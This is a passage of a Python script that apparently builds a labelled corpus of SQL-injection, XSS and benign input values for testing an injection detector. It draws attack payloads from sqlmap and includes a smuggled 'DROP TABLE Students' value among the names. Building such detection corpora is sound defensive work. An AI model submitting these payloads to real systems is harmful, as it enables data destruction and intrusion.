         "O'Connor", "McDonald", "Ngozi Okonjo-Iweala", "Li Wei", "Søren Kierkegaard",
         "Conan O'Brien", "Shaquille O'Neal", "d'Artagnan", "Robert'); DROP TABLE Students;--"
         .split(")")[0], "Alice", "Bob", "Carol", "Dave", "Eve", "Mallory", "Trent", "Peggy",
         "Walter", "Zoë", "Chloé", "François", "Ólafur", "Łukasz", "Dvořák", "Müller"]
JA = ["東京都渋谷区神南1-2-3", "お問い合わせはこちら", "山田太郎", "大阪府大阪市北区梅田", "ログイン",
      "パスワードを忘れた場合", "検索キーワード", "新着情報（2024年）", "こんにちは、世界！",
      "本日のおすすめ「特選和牛」", "送料無料・翌日配達", "注文番号：A-12345", "株式会社サンプル",
      "よくある質問 (FAQ)", "カートに入れる", "会員登録 / ログイン", "ご意見・ご要望",
      "東京 or 大阪", "選択してください", "削除しますか？", "データベース", "ユーザー名",
      "日本語のテキスト と English", "令和6年4月1日", "〒150-0041", "営業時間 9:00～18:00"]
DOMAINS = ["example.com", "example.jp", "mail.example.org", "shop.example.co.jp", "localhost"]
SENTENCES = [
    "It's a nice day, isn't it?", "Don't select the red one or the blue one",
    "Tom's and Jerry's cheese", "I'd like to update my address", "Please delete my account",
    "Where is the nearest station?", "Select all that apply", "Union Station, Chicago",
    "The table is set for two", "Drop me a line when you're free", "order by price",
    "Group by category and sort", "He said 'hello' and left", "She's from New York or Boston",
    "Rock 'n' roll", "What's the difference between A and B?", "If you can't find it, call us",
    "from A to B", "Is this true or false?", "1 or 2 spoons of sugar", "five and six",
    "O'Hare airport, gate 5", "Can't sleep; benchmark my new laptop",
    "Insert coin to continue", "Create a new folder", "Execute the plan", "Declare your items",
    "Alert: your order has shipped", "Script writing tips", "Image source: Wikipedia",
    "We're open 24/7 -- call anytime", "Meet me at 5 o'clock", "a < b and c > d",
    "x + y = z", "50% off everything!", "Q&A session", "C# or C++ or Java?", "#1 best seller",
    "I'm here; you're there", "Price: $10 (incl. tax)", "email me: a@b.co", "call 1-800-555-0199",
    "version 2.0.1 (beta)", "dinner for 2 @ 7pm", "Fish & Chips", "AT&T", "Johnson & Johnson",
    "rock, paper, scissors", "and/or", "either/or", "not only but also", "between you and me",
    "select * from the menu", "union of two sets", "where were you?", "like it or not",
    "The 'select' keyword", "a 'quoted' word", "\"double quoted\" text", "it's 100% cotton",
    "the end.", "she said \"or else\"", "what about 1=1?", "is 2>1?", "x=1&y=2 in math",
]
URL_PATHS = ["/", "/index.html", "/search?q=shoes", "/a/b/c.php?id=1&page=2", "/api/v1/users/42",
             "/products?sort=price&order=asc", "/img/logo.png", "/blog/2024/01/hello-world"]


def benign_values(n_per):
    T = {}
    T["word"] = lambda: R.choice(WORDS)
    T["words"] = lambda: " ".join(R.choice(WORDS) for _ in range(R.randint(2, 6)))
    T["words-sql-prose"] = lambda: " ".join(R.choice(WORDS) for _ in range(R.randint(1, 3))) + \
        " " + R.choice(["select", "or", "and", "union", "from", "where", "drop", "update",
                        "order by", "like", "not", "null", "exec", "delete", "insert into",
                        "sleep", "if", "case"]) + " " + \
        " ".join(R.choice(WORDS) for _ in range(R.randint(1, 3)))
    T["name"] = lambda: R.choice(NAMES)
    T["email"] = lambda: "%s%s@%s" % (R.choice(["john", "mary.o", "t.o'neil", "info", "a.b+tag",
                                               "sales", "user_1", "x"]),
                                      R.choice(["", str(R.randint(1, 99))]), R.choice(DOMAINS))
    T["number"] = lambda: R.choice([str(R.randint(0, 100000)), "-%d" % R.randint(1, 999),
                                    "%d.%02d" % (R.randint(0, 999), R.randint(0, 99)),
                                    "%de%d" % (R.randint(1, 9), R.randint(1, 9)),
                                    "0x%x" % R.randint(0, 65535), "1,234,567", "+81 3-1234-5678"])
    T["date"] = lambda: R.choice(["%04d-%02d-%02d", "%04d/%02d/%02d", "%04d.%02d.%02d"]) % (
        R.randint(1990, 2030), R.randint(1, 12), R.randint(1, 28)) + R.choice(
        ["", "T%02d:%02d:00Z" % (R.randint(0, 23), R.randint(0, 59)), " 10:00"])
    T["japanese"] = lambda: R.choice(JA) + R.choice(["", " " + R.choice(JA)])
    T["url"] = lambda: R.choice(["https://", "http://", "//", ""]) + R.choice(DOMAINS) + \
        R.choice(URL_PATHS)
    T["json"] = lambda: json.dumps(R.choice([
        {"user": R.choice(NAMES), "age": R.randint(1, 99)}, {"q": R.choice(WORDS), "page": 2},
        [1, 2, R.randint(3, 99)], {"filter": {"and": [R.choice(WORDS), R.choice(WORDS)]}},
        {"sort": "name", "order": R.choice(["asc", "desc"])}, {"select": R.choice(WORDS)},
        {"where": {"id": R.randint(1, 9)}}]), ensure_ascii=R.random() < 0.5)
    T["sentence"] = lambda: R.choice(SENTENCES)
    T["sentence-apostrophe"] = lambda: "%s's %s %s" % (R.choice(["Tom", "Mary", "O'Neil", "John",
                                                                 "the company", "today"]),
                                                       R.choice(WORDS), R.choice(WORDS))
    T["search-or-and"] = lambda: "%s %s %s" % (R.choice(WORDS), R.choice(["or", "and", "OR",
                                                                         "AND", "&&", "||", "|"]),
                                               R.choice(WORDS))
    T["id-like"] = lambda: R.choice(["A-%05d", "ORD%06d", "user_%d", "item-%d", "#%d", "v%d.0",
                                     "SKU%d-XL"]) % R.randint(1, 99999)
    T["path"] = lambda: R.choice(["/home/user/file.txt", "C:\\Users\\me\\doc.docx",
                                  "../images/a.png", "~/notes.md", "docs/readme (1).pdf"])
    T["markup-text"] = lambda: R.choice(["a < b", "x<5", "3 > 2", "<3", "i <3 u", "-->", "1 < 2 > 0",
                                         "=> arrow", "a <= b", "5 >= 4", "<<quote>>"])
    T["code-snippet"] = lambda: R.choice(["foo(bar)", "f(x) = x^2", "print('hi')",
                                          "x = y + 1;", "if (a) { b(); }", "arr[0]", "$var",
                                          "@mention", "key: value", "a=b", "sum(1,2)", "max(a, b)",
                                          "SELECT is a keyword", "(see above)", "[1] ref",
                                          "func() or die", "count(*)", "user.name"])
    T["phone-address"] = lambda: R.choice(["%d-%d-%d" % (R.randint(100, 999), R.randint(100, 999),
                                                         R.randint(1000, 9999)),
                                           "%d Main St., Apt %d" % (R.randint(1, 999),
                                                                    R.randint(1, 40)),
                                           "Suite %d, %s" % (R.randint(1, 500), R.choice(WORDS))])
    T["mixed"] = lambda: "%s - %s (%d)" % (R.choice(WORDS).title(), R.choice(NAMES),
                                           R.randint(1, 2024))
    T["password-like"] = lambda: "".join(R.choice(
        "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!@#$%^&*()-_=+") for _ in
        range(R.randint(8, 16)))
    out = []
    for name, fn in T.items():
        for _ in range(n_per):
            out.append(("benign:" + name, fn()))
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("-o", "--out", default="-")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--sqlmap", default=SQLMAP)
    ap.add_argument("--per-test", type=int, default=12, help="boundaries per sqlmap test")
    args = ap.parse_args()
    R.seed(args.seed)
    random.seed(args.seed)

    sm = Sqlmap(args.sqlmap)
    rows = []
    sq = sqli_values(sm, args.per_test)
    sq += union_values(sm, 500)
    sq += heuristic_values(40)
    sq += tamper_values(sm, sorted(set(sq)), 25)
    rows += [(f, v, "sqli") for f, v in sq]
    rows += [(f, v, "xss") for f, v in xss_values(60)]
    rows += [(f, v, "benign") for f, v in benign_values(200)]

    seen = set()
    out = sys.stdout if args.out == "-" else open(args.out, "w", encoding="utf-8")
    n = {"sqli": 0, "xss": 0, "benign": 0}
    for family, value, kind in rows:
        value = value.replace("\r\n", "\n")
        if not value or (kind, value) in seen:
            continue
        seen.add((kind, value))
        rec = {"value": value, "family": family, "kind": kind, "split": split_of(family, value)}
        rec.update(request_fields(value))
        out.write(json.dumps(rec, ensure_ascii=False) + "\n")
        n[kind] += 1
    if out is not sys.stdout:
        out.close()
    print("corpus: %d sqli, %d xss, %d benign values" % (n["sqli"], n["xss"], n["benign"]),
          file=sys.stderr)


if __name__ == "__main__":
    sys.exit(main())
